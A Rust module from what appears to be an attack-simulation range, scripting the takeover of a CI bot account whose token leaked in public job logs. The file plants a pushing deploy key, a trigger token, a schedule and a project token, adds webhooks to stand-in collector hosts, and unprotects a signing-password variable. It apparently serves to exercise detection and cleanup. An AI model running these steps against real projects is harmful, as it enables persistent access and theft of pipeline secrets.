//! `compromised-bot`: a service account's token stands in a public job's log.
//!
//! A bot has no password and no second factor to reset (UA7): its token is the
//! account. The attacker finds it in the log of a release job, goes to the
//! project in which the bot is a maintainer, and plants what starts pipelines
//! and carries code out: a deploy key, a trigger token, a schedule, a webhook,
//! a project access token, and by that token a second webhook. One variable
//! loses its protection, so that any branch's job gets it.

use reqwest::Method;
use serde_json::json;

use super::attacker::{Attacker, text};
use super::hands::{make_project_token, plant_webhook, search_public_logs, word_with};
use super::loot::{CredentialKind, Foothold, Loot, Sign, clone, trigger};
use super::{AttackError, hands};
use crate::secret;

/// The bot's username.
pub const USERNAME: &str = "release-bot";
/// The deploy key that is planted.
const KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHarborRangeAttackerKeyCompromisedBot012345 mirror-2";
/// Where the planted webhooks send to.
const COLLECTOR: &str = "https://build-status.parcelbay.example/hook";
/// The same, planted by the planted token.
const SECOND_COLLECTOR: &str = "https://build-status.parcelbay.example/second";

/// Runs the attack.
pub(crate) async fn run(attacker: Attacker) -> Result<Loot, AttackError> {
    let wanted = |log: &str| {
        let (_, told) = log.split_once("--token ")?;
        word_with(secret::ACCESS_TOKEN, told)
    };
    let (token, _, _) = search_public_logs(&attacker, "", wanted).await?;
    let token = CredentialKind::AccessToken(token);
    let mut loot = Loot::new(attacker);
    loot.hold("the bot's token", token.clone());
    let project = look_around(&mut loot, &token).await?;
    plant_deploy_key(&mut loot, &token, &project).await?;
    plant_trigger(&mut loot, &token, &project).await?;
    plant_schedule(&mut loot, &token, &project).await?;
    plant_webhook(&mut loot, &token, &project, COLLECTOR).await?;
    let planted = make_project_token(&loot.attacker, &token, &project, "release notes").await?;
    loot.hold("a planted project access token", planted.clone());
    plant_webhook(&mut loot, &planted, &project, SECOND_COLLECTOR).await?;
    unguard_variable(&mut loot, &token, &project).await?;
    Ok(loot)
}

/// Returns the project in which the bot is a maintainer.
async fn look_around(loot: &mut Loot, token: &CredentialKind) -> Result<String, AttackError> {
    let (attacker, with) = (loot.attacker.clone(), Some(token));
    attacker.get("ask whose token it is", "/user", with).await?.accepted()?;
    attacker.get("ask what the token may do", "/personal_access_tokens/self", with).await?;
    let path = "/projects?membership=true&min_access_level=40&per_page=100";
    let found = attacker.get("list projects to maintain", path, with).await?.accepted()?;
    let first = found.rows().first().map(|row| text(row, "id"));
    let project = first.ok_or(AttackError::NotFound("a project that the bot maintains"))?;
    let path = format!("/projects/{project}/variables?per_page=100");
    let variables = attacker.get("read CI/CD variables", &path, with).await?.accepted()?;
    loot.variables_read = variables.rows().len();
    Ok(project)
}

async fn plant_deploy_key(
    loot: &mut Loot,
    token: &CredentialKind,
    project: &str,
) -> Result<(), AttackError> {
    let attacker = loot.attacker.clone();
    let path = format!("/projects/{project}/deploy_keys");
    let body = json!({ "title": "mirror 2", "key": KEY, "can_push": true });
    let title = "plant a deploy key that may push";
    attacker.write(title, (Method::POST, &path), Some(token), body).await?.accepted()?;
    clone(&attacker, "clone with the deploy key", KEY, project).await?;
    let kind = CredentialKind::SshKey { key: KEY.to_owned(), project: project.to_owned() };
    loot.hold("a planted deploy key", kind);
    Ok(())
}

async fn plant_trigger(
    loot: &mut Loot,
    token: &CredentialKind,
    project: &str,
) -> Result<(), AttackError> {
    let attacker = loot.attacker.clone();
    let path = format!("/projects/{project}/triggers");
    let body = json!({ "description": "nightly notes" });
    let title = "plant a pipeline trigger token";
    let made = attacker.write(title, (Method::POST, &path), Some(token), body).await?.accepted()?;
    let secret = made.field("token");
    trigger(&attacker, "start a pipeline with it", &secret, project).await?;
    let kind = CredentialKind::TriggerToken { token: secret, project: project.to_owned() };
    loot.hold("a planted trigger token", kind);
    Ok(())
}

async fn plant_schedule(
    loot: &mut Loot,
    token: &CredentialKind,
    project: &str,
) -> Result<(), AttackError> {
    let path = format!("/projects/{project}/pipeline_schedules");
    let name = "release notes";
    let body = json!({ "description": name, "ref": "main", "cron": "17 3 * * *" });
    let title = "plant a pipeline schedule";
    let attacker = loot.attacker.clone();
    attacker.write(title, (Method::POST, &path), Some(token), body).await?.accepted()?;
    // A schedule that is put to sleep is as good as removed.
    loot.footholds.push(Foothold {
        name: format!("schedule {name:?} of project {project}"),
        path: format!("{path}?scope=active&per_page=100"),
        sign: Sign::Listed { field: "description", value: name.to_owned() },
    });
    Ok(())
}

async fn unguard_variable(
    loot: &mut Loot,
    token: &CredentialKind,
    project: &str,
) -> Result<(), AttackError> {
    let path = format!("/projects/{project}/variables/SIGNING_STORE_PASSWORD");
    let title = "take a variable's protection away";
    hands::change(loot, token, title, (Method::PUT, &path), ("protected", json!(false))).await
}
